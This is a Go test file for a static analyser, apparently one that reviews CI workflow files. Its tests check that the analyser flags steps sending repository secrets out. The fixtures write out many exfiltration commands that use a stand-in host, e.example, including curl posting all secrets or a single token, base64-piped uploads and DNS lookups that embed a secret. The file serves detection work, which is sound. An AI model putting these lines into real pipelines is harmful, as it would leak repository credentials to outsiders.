package static

import (
	"strings"
	"testing"

	"github.com/umpire-dev/umpire/internal/review/finding"
)

// However a job sends or prints a secret of the repository, the reader of its script sees the secret.
func TestSecretLeaves(t *testing.T) {
	job := func(s string) string { return "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n" + s }
	run := func(s string) string {
		return job("    - run: |\n        " + strings.ReplaceAll(s, "\n", "\n        ") + "\n")
	}
	const quiet = finding.Low + 1 // no finding
	for name, c := range map[string]struct {
		path, text string
		want       finding.Severity
	}{
		"all secrets":            {"", run(`curl -d "${{ toJSON(secrets) }}" https://e.example/`), finding.High},
		"all, single quotes":     {"", run(`curl -d '${{ toJson( secrets ) }}' https://e.example/`), finding.High},
		"one, in clear":          {"", run(`curl -d ${{ secrets.X }} http://e.example/`), finding.High},
		"one":                    {"", run(`curl -d ${{ secrets.X }} https://e.example/`), finding.Medium},
		"by index":               {"", run(`curl -d "${{ secrets['X'] }}" https://e.example/`), finding.Medium},
		"by a computed index":    {"", run(`curl -d "${{ secrets[format('{0}', 'X')] }}" https://e.example/`), finding.Medium},
		"single quotes":          {"", run(`curl -d '${{ secrets.X }}' https://e.example/`), finding.Medium},
		"quoted here-document":   {"", run("cat <<'E' | curl -d @- https://e.example/\n${{ secrets.X }}\nE"), finding.Medium},
		"encoded":                {"", run(`echo "${{ secrets.X }}" | base64 | curl -d @- https://e.example/`), finding.Medium},
		"in the address":         {"", run(`wget -q "https://e.example/?${{ secrets.X }}"`), finding.Medium},
		"in a host name":         {"", run(`nslookup ${{ secrets.X }}.e.example`), finding.Medium},
		"the service's token":    {"", run(`curl -d "${{ github.token }}" https://e.example/`), finding.Medium},
		"the whole context":      {"", run(`curl -d '${{ toJSON(github) }}' https://e.example/`), finding.Medium},
		"by a shell variable":    {"", run("A=${{ secrets.X }}\nB=$A\ncurl -d \"$B\" https://e.example/"), finding.Medium},
		"by a file":              {"", run("echo ${{ secrets.X }} > t\ncurl -T t https://e.example/"), finding.Medium},
		"to an unknown address":  {"", run(`curl -d "${{ secrets.X }}" "$SOMEWHERE"`), finding.Medium},
		"printed with encoding":  {"", run(`echo "${{ secrets.X }}" | base64`), finding.Medium},
		"step's environment":     {"", job("    - env: {T: \"${{ secrets.X }}\"}\n      run: curl -d \"$T\" https://e.example/\n"), finding.Medium},
		"job's environment":      {"", "jobs:\n  a:\n    env:\n      T: a ${{ secrets.X }}\n    steps:\n    - run: curl -d \"$T\" https://e.example/\n", finding.Medium},
		"workflow's environment": {"", "env:\n  T: ${{ secrets.X }}\n" + job("    - run: curl -d \"${{ env.T }}\" https://e.example/\n"), finding.Medium},
		"composite action":       {"action.yml", "runs:\n  using: composite\n  steps:\n  - shell: bash\n    env: {T: '${{ github.token }}'}\n    run: curl -d \"$T\" https://e.example/\n", finding.Medium},
		"literal with operator":  {"", run(`curl -d "${{ format('{0}==', secrets.X) }}" https://e.example/`), finding.Medium},
		"GitLab":                 {".gitlab-ci.yml", "a:\n  before_script:\n  - T=$CI_JOB_TOKEN\n  script:\n  - curl -d \"$T\" http://e.example/\n", finding.High},
		"CircleCI":               {".circleci/config.yml", "jobs:\n  a:\n    steps:\n    - run:\n        command: echo $NPM_TOKEN | base64\n", finding.Medium},

		"header":           {"", run(`curl -H "Authorization: Bearer ${{ secrets.X }}" https://e.example/`), quiet},
		"standard input":   {"", run(`echo "${{ secrets.X }}" | docker login -u x --password-stdin ghcr.io`), quiet},
		"webhook":          {"", run(`curl -d '{"text":"done"}' "${{ secrets.HOOK }}"`), quiet},
		"webhook variable": {"", job("    - env: {HOOK: \"${{ secrets.HOOK }}\"}\n      run: curl -d done \"$HOOK\"\n"), quiet},
		"comparison":       {"", run(`echo "${{ secrets.X != '' }}"`), quiet},
		"file":             {"", run(`echo "${{ secrets.X }}" | base64 -d > key.jks`), quiet},
		"output":           {"", run(`echo "T=${{ secrets.X }}" >> "$GITHUB_ENV"`), quiet},
		"an input":         {"", run(`curl -d "${{ inputs.secrets }}" https://e.example/`), quiet},
		"other key":        {".gitlab-ci.yml", "a:\n  variables:\n    T: curl -d $X_TOKEN https://e.example/\n", quiet},
	} {
		t.Run(name, func(t *testing.T) {
			path := c.path
			if path == "" {
				path = ".github/workflows/x.yml"
			}
			got := quiet
			for _, r := range check(t, map[string]string{path: c.text}) {
				if r.Rule == secretLeaves.ID {
					got = r.Severity
				}
			}
			if got != c.want {
				t.Errorf("severity %v, want %v", got, c.want)
			}
		})
	}
}

func TestLineOfLeak(t *testing.T) {
	text := "on: push\njobs:\n  a:\n    steps:\n    - env: {T: \"${{ secrets.X }}\"}\n      run: |\n        use \"$T\"\n        curl -d \"$T\" https://e.example/\n"
	for _, r := range check(t, map[string]string{".github/workflows/x.yml": text}) {
		if r.Rule == secretLeaves.ID && r.Location.Line != 8 {
			t.Errorf("line %d", r.Location.Line)
		}
	}
}
